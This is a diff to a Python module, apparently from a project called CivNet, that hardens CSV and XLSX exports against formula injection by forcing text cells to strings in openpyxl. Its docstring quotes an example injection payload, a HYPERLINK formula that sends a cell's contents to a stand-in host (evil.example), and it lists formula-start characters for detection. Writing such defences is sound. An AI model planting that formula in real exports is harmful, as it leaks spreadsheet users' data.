@@ -5,6 +5,8 @@ LibreOffice (OWASP "CSV injection"): `=HYPERLINK("http://evil.example/?leak="&A3
 CSV such a cell gets a leading apostrophe, which spreadsheets show as text; CivNet's own imports remove it again
 (`from_csv_cell`). In XLSX every text is written as a string cell, never a formula."""
 
+from openpyxl.cell import WriteOnlyCell
+
 _FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -22,10 +24,13 @@ def from_csv_cell(value: str) -> str:
     return value
 
 
-def xlsx_append(sheet, values) -> None:
-    """Append a row to an openpyxl sheet with every text as a string cell: openpyxl would store a text starting
-    with "=" as a formula."""
-    sheet.append(list(values))
-    for cell in sheet[sheet.max_row]:
+def xlsx_cells(sheet, values) -> list:
+    """A row for `sheet.append` where every text is a string cell: openpyxl would store a text starting with "="
+    as a live formula. Works on normal and write-only sheets (write-only is what large exports use)."""
+    cells = []
+    for value in values:
+        cell = WriteOnlyCell(sheet, value=value)
         if cell.data_type == "f":
             cell.data_type = "s"
+        cells.append(cell)
+    return cells
